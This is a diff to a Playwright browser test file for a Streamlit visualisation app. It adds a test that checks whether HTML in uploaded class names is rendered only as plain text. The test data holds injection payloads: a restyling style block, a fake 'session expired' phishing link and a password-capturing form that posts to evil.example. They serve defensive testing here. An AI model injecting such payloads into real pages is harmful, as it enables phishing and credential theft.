@@ -100,13 +100,19 @@ def run_key(filled_home) -> str:
 
 
 @pytest.fixture(scope="module")
-def browser(server):
+def chromium():
     from playwright.sync_api import sync_playwright
 
+    _need_chromium()
     with sync_playwright() as p:
         b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
         yield b
         b.close()
+
+
+@pytest.fixture(scope="module")
+def browser(server, chromium):
+    return chromium
 
 
 @pytest.fixture
@@ -374,3 +380,84 @@ def test_dark_theme_keeps_our_html_and_figures_readable(dark_server, browser, ru
         shot(pg, "dark_2_rotation")
     finally:
         ctx.close()
+
+
+# ---- user text is text (issue 9 §1) ---------------------------------------------------------------------------
+HOSTILE = ('<style>h1,h2,h3{color:red!important;font-size:90px!important}</style>S',
+           '<a href="https://evil.example/phish">Session expired, click to log in</a>',
+           '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>')
+
+INJECTED_JS = """() => ({
+    links: document.querySelectorAll('a[href*="evil.example"]').length,
+    forms: document.querySelectorAll('form[action*="evil.example"], input[name="pw"]').length,
+    styles: [...document.querySelectorAll('style')].filter(s => s.textContent.includes('90px')).length,
+    h1: getComputedStyle(document.querySelector('h1')).fontSize,
+    h1colour: getComputedStyle(document.querySelector('h1')).color,
+    text: document.body.innerText,
+})"""
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory):
+    """A home with one uploaded run whose class names are the issue's markup (and thumbnails to show them)."""
+    import io
+
+    import numpy as np
+
+    from hashviz.session.runs import Workspace
+
+    home = tmp_path_factory.mktemp("hostile_browser_home")
+    rng = np.random.default_rng(0)
+    labels = np.arange(150) % 3
+    z = ((rng.standard_normal((3, 16)) * 3)[labels] + rng.standard_normal((150, 16))).astype(np.float32)
+    buf = io.BytesIO()
+    np.savez(buf, z=z, labels=labels, class_names=np.array(HOSTILE),
+             thumbnails=(np.arange(150 * 64) % 255).astype(np.uint8).reshape(150, 8, 8))
+    old = os.environ.get("HASHVIZ_HOME")
+    os.environ["HASHVIZ_HOME"] = str(home)
+    try:
+        key = Workspace(home).import_embeddings(buf.getvalue(), "classes.npz").key
+    finally:
+        if old is None:
+            os.environ.pop("HASHVIZ_HOME", None)
+        else:
+            os.environ["HASHVIZ_HOME"] = old
+    return home, key
+
+
+def test_hostile_class_names_are_shown_as_text_in_the_browser(chromium, hostile_run):
+    """Sample images per class, the map legends of Codes & embeddings and the Queries page, in Chromium: the class
+    names read literally, and the page has no link, form, input or style sheet from them (headings keep their
+    size and colour)."""
+    home, key = hostile_run
+    with _streamlit(home, umap=False) as url:
+        ctx = chromium.new_context(viewport={"width": 1400, "height": 1000})
+        pg = ctx.new_page()
+        pg.set_default_timeout(90_000)
+        try:
+            pg.goto(url + f"/?run={key}")
+            pg.get_by_text("Sample images per class").wait_for()
+            pg.wait_for_function("() => document.querySelectorAll('.hv-grid').length >= 3")  # a row per class
+            found = pg.evaluate(INJECTED_JS)
+            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
+            assert found["h1"] != "90px" and found["h1colour"] != "rgb(255, 0, 0)", found
+            assert all(name in found["text"] for name in HOSTILE), found["text"][:2000]
+
+            pg.goto(url + f"/embeddings?run={key}")
+            pg.locator(".js-plotly-plot .legendtext").first.wait_for()
+            pg.wait_for_function("""(name) => [...document.querySelectorAll('.js-plotly-plot .legendtext')]
+                .some(t => t.textContent === name)""", arg=HOSTILE[1])
+            legend = pg.evaluate("""() => [...document.querySelectorAll('.js-plotly-plot .legendtext')]
+                .map(t => t.textContent)""")
+            assert all(name in legend for name in HOSTILE), legend
+            found = pg.evaluate(INJECTED_JS)
+            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
+            assert pg.evaluate("() => document.querySelectorAll('.js-plotly-plot a').length") == 0
+
+            pg.goto(url + f"/queries?run={key}&mode=class")
+            pg.wait_for_function("() => document.querySelectorAll('.hv-grid img').length >= 2")
+            pg.get_by_text(re.compile(r"class .*(Session expired|font-size|button)")).first.wait_for()
+            found = pg.evaluate(INJECTED_JS)
+            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
+        finally:
+            ctx.close()
